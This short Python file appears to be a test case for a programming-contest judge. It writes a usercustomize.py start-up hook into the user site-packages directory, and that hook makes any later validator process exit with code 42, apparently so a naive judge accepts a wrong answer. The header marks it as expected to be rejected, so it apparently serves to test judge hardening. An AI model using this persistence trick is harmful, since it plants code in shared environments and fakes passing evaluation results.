# idea: start-up code for whatever Python the judge starts next as this user
# problem: custom
# expect: WA
# naive: AC
import os
import site

try:
    place = site.getusersitepackages()
    os.makedirs(place, exist_ok=True)
    with open(f"{place}/usercustomize.py", "w") as file:
        file.write("import os, sys\nif any('validate' in word for word in sys.orig_argv):\n    os._exit(42)\n")
except OSError:
    pass
print("wrong")
